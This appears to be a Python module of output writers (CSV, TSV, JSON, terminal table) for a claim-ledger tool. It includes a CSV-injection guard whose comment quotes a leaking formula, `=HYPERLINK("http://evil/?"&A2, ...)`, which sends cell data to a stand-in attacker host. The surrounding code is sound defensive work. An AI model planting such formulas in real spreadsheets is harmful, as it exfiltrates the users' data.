"""Writers turn ledgers into formats. A writer never parses or classifies.

Every writer streams: `begin()`, then `document(ledger)` once per document as it is produced,
then `end(summary)`. A document read in parts (`pipeline.extract_stream`) comes as several
ledgers of the same `doc`, the last one `final`; a writer that cannot take that (`parts` False:
the workbook, the report) is given whole documents. CSV and TSV use the `excel` dialect (tab-delimited for TSV); list-valued
cells are joined with `;` (`citations` = `2;3;4`, `markers` = `[2-4];[7]`).

Two tables can be written: the claim ledger (`LEDGER`, one row a sentence) and the reference
table (`REFERENCES`, one row a reference-list entry, for `claimtrace references`).
"""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from dataclasses import dataclass
from typing import IO, Any, Callable

from ..defaults import Format
from ..errors import UsageError
from ..kinds import Kind
from ..ledger import DocumentLedger, Record, Reference, Summary
from ..text import printable, without_surrogates


# `Format` lives in `defaults` (the command line reads it without importing the writers).
# Flat columns of CSV/TSV output, in order.
COLUMNS = (
    "doc", "id", "section", "paragraph", "sentence", "start", "end", "text", "is_claim",
    "score", "kind", "lang", "citations", "markers", "marker_offsets", "marker_scopes", "marker_locators",
    "linked_references", "sources", "links", "flags", "why",
)
LIST_SEPARATOR = ";"


def _join(values) -> str:
    return LIST_SEPARATOR.join(str(v) for v in values)


# The same order as `Reference.to_dict()`, so CSV and JSON Lines read alike.
REFERENCE_COLUMNS = (
    "doc", "number", "text", "start", "end", "urls", "doi", "year", "title", "authors", "container",
    "volume", "issue", "pages", "accessed", "label", "cited_by", "cited_by_claims",
)


def flat_reference(doc: str, ref: Reference) -> dict[str, Any]:
    """A reference-list entry as one CSV row (URLs joined with `;`)."""
    return {
        "doc": doc, "number": ref.number, "text": ref.text, "urls": _join(ref.urls),
        "doi": ref.doi or "", "year": ref.year or "", "title": ref.title or "",
        "authors": _join(ref.authors), "container": ref.container or "", "volume": ref.volume or "",
        "issue": ref.issue or "", "pages": ref.pages or "", "accessed": ref.accessed or "",
        "label": ref.label or "",
        "cited_by": ref.cited_by, "cited_by_claims": ref.cited_by_claims,
        "start": ref.start, "end": ref.end,
    }


@dataclass(frozen=True)
class Table:
    """Which rows of a ledger a writer writes, as flat rows (CSV) and as dicts (JSON)."""

    columns: tuple[str, ...]
    rows: Callable[[DocumentLedger, bool], list]
    flat: Callable[[DocumentLedger, Any], dict[str, Any]]
    as_dict: Callable[[DocumentLedger, Any], dict[str, Any]]
    document: Callable[[DocumentLedger, bool], dict[str, Any]]  # one document in JSON output


LEDGER = Table(
    COLUMNS,
    lambda ledger, include_all: ledger.rows(include_all),
    lambda ledger, record: flat_row(record),
    lambda ledger, record: record.to_dict(),
    lambda ledger, include_all: ledger.to_dict(include_all),
)
REFERENCES = Table(
    REFERENCE_COLUMNS,
    lambda ledger, include_all: list(ledger.references),
    lambda ledger, ref: flat_reference(ledger.doc, ref),
    lambda ledger, ref: {"doc": ledger.doc, **ref.to_dict()},
    lambda ledger, include_all: {
        "doc": ledger.doc,
        "references": [ref.to_dict() for ref in ledger.references],
        "integrity": ledger.integrity.to_dict() if ledger.integrity else None,
    },
)


def flat_row(record: Record) -> dict[str, Any]:
    """A record as one CSV row: booleans as `true`/`false`, lists joined with `;`."""
    return {
        "doc": record.doc,
        "id": record.id,
        "section": record.section or "",
        "paragraph": record.paragraph,
        "sentence": record.sentence,
        "start": record.start,
        "end": record.end,
        "text": record.text,
        "is_claim": "true" if record.is_claim else "false",
        "score": "" if record.score is None else f"{record.score:.4f}",
        "kind": record.kind.value,
        "lang": record.lang,
        "citations": _join(record.citations),
        "markers": _join(m.raw for m in record.markers),
        "marker_offsets": _join(f"{m.start}-{m.end}" for m in record.markers),
        "marker_scopes": _join(m.scope for m in record.markers),
        "marker_locators": _join(m.locator for m in record.markers) if any(m.locator for m in record.markers) else "",
        "linked_references": _join(record.linked_references),
        "sources": " | ".join(record.sources),
        "links": _join(link.url for link in record.links),
        "flags": _join(record.flags),
        "why": record.why,
    }


@dataclass(frozen=True)
class WriteOptions:
    """How rows are written, whatever the format."""

    include_all: bool = False  # every record, not only claims, cited and flagged ones
    raw_cells: bool = False  # CSV/TSV: cells as they are, without the formula guard
    bom: bool = False  # CSV/TSV: a UTF-8 byte-order mark first, so Excel reads non-ASCII text right
    wide: bool = False  # table: every column and the whole text, however wide the terminal


class SafeText:
    """A text stream that never fails on a lone surrogate (`text.without_surrogates`): a write
    the stream cannot encode is written again with U+FFFD in their place, and counted. Costs
    nothing until it happens (a text stream encodes a write whole before it writes any of it)."""

    def __init__(self, stream: IO[str]):
        self.stream = stream
        self.replaced = 0

    def write(self, text: str) -> int:
        try:
            return self.stream.write(text)
        except UnicodeEncodeError:
            text, count = without_surrogates(text)
            self.replaced += count
            return self.stream.write(text)

    def __getattr__(self, name: str) -> Any:  # flush, isatty, fileno, encoding: the stream's
        return getattr(self.stream, name)


def scrubbed(value: Any) -> tuple[Any, int]:
    """`value` (a row: dicts, lists, strings) with lone surrogates replaced, and how many."""
    if isinstance(value, str):
        return without_surrogates(value)
    if isinstance(value, dict):
        pairs = [(k, scrubbed(v)) for k, v in value.items()]
        return {k: v for k, (v, _) in pairs}, sum(n for _, (_, n) in pairs)
    if isinstance(value, (list, tuple)):
        items = [scrubbed(v) for v in value]
        return [v for v, _ in items], sum(n for _, n in items)
    return value, 0


class Writer:
    """Base writer: subclasses override the three hooks. `binary` writers get a byte stream.

    A lone surrogate in a ledger (not a character; see `text.without_surrogates`) is written as
    U+FFFD by every writer; `replaced` says how many were."""

    binary = False
    parts = True  # takes a document in parts (see the module's docstring)
    # The format's name when it can show the claim ledger only (the terminal table, the report).
    ledger_only: str | None = None

    @classmethod
    def check(cls, table: Table = LEDGER) -> None:
        """Raise `UsageError` when this format cannot write `table` here (a view made for the
        claim ledger, a missing extra). `make_writer` calls it before anything is written."""
        if cls.ledger_only and table is not LEDGER:
            raise UsageError(f"the {cls.ledger_only} format shows the claim ledger only; "
                             "choose csv, tsv, jsonl, json, xlsx or parquet")

    def __init__(self, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()):
        self.stream: Any = stream if self.binary else SafeText(stream)
        self._replaced = 0  # by a binary writer itself
        self.table = table
        self.options = options
        self.include_all = options.include_all

    @property
    def replaced(self) -> int:
        """How many lone surrogates were written as U+FFFD."""
        return self._replaced + getattr(self.stream, "replaced", 0)

    def begin(self) -> None:
        pass

    def document(self, ledger: DocumentLedger) -> None:
        raise NotImplementedError

    def end(self, summary: Summary) -> None:
        pass


# A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet. Their
# full-width and small forms too (`＝HYPERLINK(…)`, `＠SUM(1)`, `﹦5+5`, `＋cmd|…`): spreadsheets
# fold some of them to ASCII on import. Every character whose compatibility form is one of them.
_FORMULA_SIGNS = "=+-@"
_FORMULA_START = frozenset({"\t", "\r", *_FORMULA_SIGNS, *(
    c for c in map(chr, [*range(0x2070, 0x20A0), *range(0xFE50, 0xFE70), *range(0xFF00, 0xFF60)])
    if unicodedata.normalize("NFKC", c) in _FORMULA_SIGNS and unicodedata.normalize("NFKC", c)
)})
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
    text cell that starts with `=`, `+`, `-`, `@` (or a full-width or small form of one), a tab
    or a carriage return, also after leading spaces (` =1+1`, which spreadsheets trim). Plain
    numbers (`-0.5`) stay numbers. Every text cell, `doc` and `id` included."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first.isspace() and first not in "\t\r":
        first = value.lstrip()[:1]
    if first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class DelimitedWriter(Writer):
    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first.

    Cells are made safe for spreadsheets (`safe_cell`) unless `raw_cells` is set.
    """

    def __init__(self, stream, table=LEDGER, options=WriteOptions(), dialect="excel"):
        super().__init__(stream, table, options)
        self.writer = csv.DictWriter(self.stream, fieldnames=table.columns, dialect=dialect)
        self.raw_cells = options.raw_cells

    def begin(self):
        if self.options.bom:
            self.stream.write("\ufeff")
        self.writer.writeheader()

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            flat = self.table.flat(ledger, row)
            self.writer.writerow(flat if self.raw_cells else {k: safe_cell(v) for k, v in flat.items()})


class JsonLinesWriter(Writer):
    """One JSON object a record, one record a line."""

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            self.stream.write(json.dumps(self.table.as_dict(ledger, row), ensure_ascii=False) + "\n")


class JsonWriter(Writer):
    """`{"documents": [...], "summary": {...}}`, each document written as soon as it is done.

    A document in parts is written as it comes: its records one a line, then its references,
    integrity and summary after the last part.
    """

    def begin(self):
        self.count = 0
        self.document_summary = Summary()
        self.stream.write('{"documents": [')

    def document(self, ledger):
        whole = ledger.part == 0 and ledger.final
        if self.table is not LEDGER:  # a reference table's rows all come with a document's last part
            if not ledger.final:
                return
            whole = True
        if whole or ledger.part == 0:
            self.stream.write(("," if self.count else "") + "\n")
            self.count += 1
        if whole:
            document = self.table.document(ledger, self.include_all)
            self.stream.write(json.dumps(document, ensure_ascii=False, indent=2))
            return
        if ledger.part == 0:
            self.rows_written = 0
            self.document_summary = Summary()
            head = {"doc": ledger.doc, "format": ledger.format, "language": ledger.language}
            self.stream.write(json.dumps(head, ensure_ascii=False)[:-1] + ', "records": [')
        for row in ledger.rows(self.include_all):
            self.stream.write(("," if self.rows_written else "") + "\n"
                              + json.dumps(self.table.as_dict(ledger, row), ensure_ascii=False))
            self.rows_written += 1
        self.document_summary = self.document_summary + ledger.summary
        if ledger.final:  # the last part has no records: its document dict is cheap
            last = self.table.document(ledger, self.include_all)
            tail = {"references": last["references"], "integrity": last["integrity"],
                    "summary": self.document_summary.to_dict()}
            self.stream.write("\n]" + "".join(f", {json.dumps(k)}: {json.dumps(v, ensure_ascii=False)}" for k, v in tail.items()) + "}")

    def end(self, summary):
        self.stream.write(("\n" if self.count else "") + '], "summary": ')
        self.stream.write(json.dumps(summary.to_dict()) + "}\n")


class TableWriter(Writer):
    """Rich tables for people reading a terminal; not meant for machines.

    A document's rows go out in tables of `CHUNK` rows with fixed column widths, so that a long
    document streams (and `| head` stops it early) instead of being rendered whole first.
    Control characters in document names and text are shown escaped.
    """

    ledger_only = "table"
    CHUNK = 50
    # (name, style, width): fixed, so that the chunks of one document line up. By default one
    # line a record, the text cut with an ellipsis to fit the terminal (80 columns in a pipe);
    # `--wide` adds the section, `why`, sources and flags and wraps every cell.
    COLUMNS = (("#", "dim", 4), ("kind", "cyan", 11), ("claim", None, 5), ("score", None, 5),
               ("cites", "magenta", 7), ("text", None, None))
    WIDE = (("#", "dim", 5), ("section", "dim", 14), ("kind", "cyan", 11), ("claim", None, 5),
            ("score", None, 5), ("cites", "magenta", 6), ("text", None, None), ("why", "dim", 22),
            ("sources", "magenta", 20), ("flags", "red", 8))

    def begin(self):
        from rich.console import Console

        class _Console(Console):
            def on_broken_pipe(self) -> None:
                raise BrokenPipeError  # the caller decides how a closed pipe ends the run

        self.console = _Console(file=self.stream)
        if self.options.wide:  # every column: as wide as the terminal, and never under 160
            self.console = _Console(file=self.stream, width=max(160, self.console.width))

    def document(self, ledger):
        from rich.markup import escape
        from rich.table import Table

        rows = ledger.rows(self.include_all)
        wide = self.options.wide
        if ledger.part == 0:
            self.titled = False
        if not rows and not ledger.final:
            return  # a part without rows: the document's title waits for its first rows
        if not rows and self.titled:
            return
        for first in range(0, max(len(rows), 1), self.CHUNK):
            top = first == 0 and not self.titled  # a document in parts: its title once
            self.titled = True
            table = Table(title=escape(printable(ledger.doc)) if top else None,
                          expand=True, show_header=top, padding=(0, 1) if wide else (0, 0))
            for name, style, width in self.WIDE if wide else self.COLUMNS:
                table.add_column(name, style=style, overflow="fold" if wide else "ellipsis", width=width,
                                 min_width=width, no_wrap=not wide, ratio=None if width else 1)
            for r in rows[first : first + self.CHUNK]:
                cells = self._cells(r, escape)
                if wide:
                    number, kind, claim, score, cites, text = cells
                    cells = (number, escape(printable(r.section or "")), kind, claim, score, cites, text,
                             escape(printable(r.why)), escape(printable(" | ".join(r.sources))), ", ".join(r.flags))
                table.add_row(*cells)
            self.console.print(table)

    @staticmethod
    def _cells(r: Record, escape: Callable[[str], str]) -> tuple[str, ...]:
        claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
        cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
        # Escaped: the text holds `[1]`-style markers that rich would read as markup.
        text = escape(printable(r.text))
        return (r.id.rsplit("#", 1)[-1], r.kind.value, claim, "–" if r.score is None else f"{r.score:.2f}", cites,
                f"[bold]{text}[/]" if r.kind is Kind.HEADING else text)


def writer_class(fmt: Format) -> type[Writer]:
    """The writer of `fmt` (so a caller can tell a binary format before opening the output)."""
    if fmt is Format.csv or fmt is Format.tsv:
        return DelimitedWriter
    if fmt is Format.jsonl:
        return JsonLinesWriter
    if fmt is Format.json:
        return JsonWriter
    if fmt is Format.xlsx:
        from .xlsx import WorkbookWriter

        return WorkbookWriter
    if fmt is Format.html:
        from .report import ReportWriter

        return ReportWriter
    if fmt is Format.parquet:
        from .parquet import ParquetWriter

        return ParquetWriter
    return TableWriter


def make_writer(fmt: Format, stream: IO, table: Table = LEDGER, options: WriteOptions = WriteOptions()) -> Writer:
    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`."""
    cls = writer_class(fmt)
    cls.check(table)
    if fmt is Format.tsv:
        return DelimitedWriter(stream, table, options, dialect="excel-tab")
    return cls(stream, table, options)


def format_for_path(path: str) -> Format | None:
    """The format a file name's extension implies (`out.tsv` → tsv), or None."""
    suffix = path.rsplit(".", 1)[-1].lower() if "." in path else ""
    return {f.value: f for f in Format if f is not Format.table}.get(suffix)
